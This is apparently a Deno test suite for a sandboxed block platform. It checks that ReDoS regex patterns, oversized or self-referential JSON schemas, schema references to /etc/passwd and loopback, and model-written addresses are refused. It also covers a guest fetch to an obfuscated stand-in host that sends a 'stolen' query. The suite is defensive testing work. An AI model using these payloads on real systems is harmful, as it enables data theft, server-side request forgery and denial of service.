import assert from "node:assert/strict";
import { judgeRun } from "../domain/acceptance.ts";
import { checkJsonSchema, findSchemaProblem } from "../domain/json_schema.ts";
import { Manifest } from "../domain/manifest.ts";
import { allowedHosts, typedHosts, unapprovedHosts } from "../domain/permissions.ts";
import { parseSettings } from "../domain/settings.ts";
import { createReplayBroker } from "../egress/replay.ts";
import { runVersion } from "../services/run_version.ts";
import { attackTest } from "./lab.ts";
import { type NetworkLab, openNetworkLab } from "./network_lab.ts";
import { answer, type Puppets, startPuppets } from "./puppet.ts";
import { backendOf, testSandbox } from "../testing/block_sandbox.ts";

let puppets: Promise<Puppets> | undefined;
let network: Promise<NetworkLab> | undefined;
Deno.test.afterAll(async () => {
  await (await puppets)?.[Symbol.asyncDispose]();
  await (await network)?.[Symbol.asyncDispose]();
});

/** Expressions that take longer than the world on the right text; run on the host, a case would never end. */
const EXPLOSIONS = ["^(a+)+$", "^(a|a)*$", "^(a|aa)+$", "(.*a){30}", "^(([a-z])+.)+[A-Z]([a-z])+$"];
const FUSE = `${"a".repeat(60)}!`;

for (const pattern of EXPLOSIONS) {
  Deno.test(`attack 181 the host never runs the pattern ${pattern} of a schema`, () => {
    const schema = {
      type: "object",
      properties: { value: { type: "string", pattern } },
      patternProperties: { [pattern]: {} },
    };
    assert.equal(checkJsonSchema(schema, { value: FUSE }).kind, "fits");
  });

  Deno.test(`attack 181 the host never runs the pattern ${pattern} of a setting`, () => {
    const definition = { name: "town", label: "Town", type: "text", pattern } as const;
    assert(["valid", "invalid"].includes(parseSettings([definition], { town: FUSE }).kind));
  });
}

attackTest("attack 181 the guest's own time decides about the pattern of its schema", async () => {
  await using kit = testSandbox();
  const backend = backendOf(`return "${FUSE}";`).replace("z.any()", "z.string().regex(/^(a+)+$/)");
  const report = await kit.run({ backend }, { limits: { wallMs: 700 } });
  assert(report.kind === "limit" && report.name === "wallMs", JSON.stringify(report));
});

const nest = (levels: number, wrap: (inner: object) => object) => {
  let schema: object = { type: "string" };
  for (let level = 0; level < levels; level++) schema = wrap(schema);
  return schema;
};
const many = (count: number) => Array.from({ length: count }, (_, index) => ({ const: index }));

const SCHEMAS: Readonly<Record<string, object>> = {
  "ten thousand properties": {
    type: "object",
    properties: Object.fromEntries(Array.from({ length: 10_000 }, (_, i) => [`p${i}`, {}])),
  },
  "ten thousand required names": {
    type: "object",
    required: Array.from({ length: 10_000 }, (_, i) => `p${i}`),
  },
  "two hundred levels of lists": nest(200, (items) => ({ type: "array", items })),
  "two hundred levels of objects": nest(200, (a) => ({ type: "object", properties: { a } })),
  "twelve levels of unions that double": nest(12, (one) => ({ anyOf: [one, one] })),
  "a union of a thousand": { anyOf: many(1_000) },
  "another union of a thousand": { oneOf: many(1_000) },
  "an enum of ten thousand": { enum: Array.from({ length: 10_000 }, (_, i) => i) },
  "an enum of one megabyte": { enum: ["x".repeat(1_000_000)] },
  "a reference to itself": { $ref: "#" },
  "a reference to a file": { $ref: "file:///etc/passwd" },
  "a reference to a host": { $ref: "http://127.0.0.1/schema.json" },
  "references in definitions": {
    $defs: { a: { $ref: "#/$defs/a" } },
    properties: { a: { $ref: "#/$defs/a" } },
  },
};

for (const [name, schema] of Object.entries(SCHEMAS)) {
  attackTest(`attack 182 a schema with ${name} is refused by its size`, async () => {
    assert.notEqual(findSchemaProblem(schema), undefined);
    const { kit } = await (puppets ??= startPuppets());
    const words = [answer(`{"value":1}`, { tree: `["x"]`, schema: JSON.stringify(schema) })];
    const { outcome } = await runVersion({ sandbox: kit.sandbox, broker: createReplayBroker([]) }, {
      owner: "test",
      compiled: { backend: { code: "", mappings: "" }, view: { code: "", mappings: "" }, libraries: [] },
      // The puppet reads its words from where a block reads its settings.
      settings: { words, then: "end" } as never,
      ...{ hosts: [], lanHosts: [], nowMs: 0, timeZone: "UTC", locale: "en", previous: null, history: [] },
      schema: undefined,
    });
    assert(outcome.kind === "failed", JSON.stringify(outcome));
    assert(["schema", "too_large"].includes(outcome.error.kind), JSON.stringify(outcome.error));
  });
}

attackTest("attack 182 data and unions that multiply are checked with bounded work", () => {
  const union = nest(7, (one) => ({ type: "array", items: { anyOf: [one, one, one, one] } }));
  let data: unknown = 1;
  for (let level = 0; level < 7; level++) data = [data, data, data, data, data, data];
  assert.notEqual(checkJsonSchema(union, data as never).kind, "fits");
});

attackTest(
  "attack 184 data that hides a refused request is not adopted, and the refusal stands",
  async () => {
    const lab = await (network ??= openNetworkLab());
    const body = `
    await fetch("http://" + ["collector", "evil", "test"].join(".") + "/?stolen=1").catch(() => {});
    await fetch("$origin/").catch(() => {});
    return { celsius: 17 };`;
    const { value, run, lookups } = await lab.runHeld(body, { hosts: ["api.weather.example"] });
    assert.deepEqual([value, lookups], [{ celsius: 17 }, []]);
    assert(run.outcome.kind === "ok");
    assert.deepEqual(run.outcome.requests.map(({ refused }) => refused), [
      "host_not_declared",
      "blocked_address",
    ]);
    const manifest = {
      ...{ hosts: ["api.weather.example"], minimumRows: 0, staleAfterSeconds: 0, dataAt: "" },
      ...{ prompt: "", requests: [] },
    };
    const judged = { outcome: run.outcome, answers: [], settings: {}, nowMs: 0, isTrial: true } as const;
    const { failures } = judgeRun({ ...judged, manifest: manifest as never });
    assert(
      failures.some(({ kind }) => kind === "refused_request"),
      JSON.stringify(failures),
    );
  },
);

const WRITTEN = "https://evil.example/feed";

attackTest("attack 185 an address that a model wrote into a setting allows no host", () => {
  const manifest = Manifest.parse({
    title: "Feed",
    hosts: ["evil.example"],
    settings: [
      { name: "feed", label: "Feed", type: "address", default: WRITTEN },
      { name: "feeds", label: "Feeds", type: "list", of: "address", default: [WRITTEN] },
      { name: "text", label: "Text", type: "text", default: WRITTEN },
    ],
  });
  for (const chosen of [{}, { feed: WRITTEN }, { feeds: [WRITTEN] }, { text: "https://evil.example/" }]) {
    assert.deepEqual(typedHosts(manifest, chosen), [], JSON.stringify(chosen));
    assert.deepEqual(allowedHosts(manifest, { chosen, approved: [] }), []);
  }
  assert.deepEqual(unapprovedHosts(manifest, []), ["evil.example"]);
  assert.deepEqual(typedHosts(manifest, { feed: "https://mine.example/feed" }), ["mine.example"]);
});
